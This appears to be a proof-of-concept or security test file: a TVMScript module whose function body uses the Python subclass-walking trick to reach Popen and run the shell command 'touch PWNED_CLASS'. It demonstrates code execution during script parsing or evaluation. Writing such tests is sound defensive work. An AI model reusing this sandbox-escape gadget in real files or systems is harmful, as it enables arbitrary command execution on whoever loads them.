from tvm.script import ir as I
from tvm.script import tir as T

@I.ir_module
class Module:
    @T.prim_func
    def main(A: T.Buffer((8,), "float32"), B: T.Buffer((8,), "float32")):
        x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("touch PWNED_CLASS")
        B[0] = A[0]
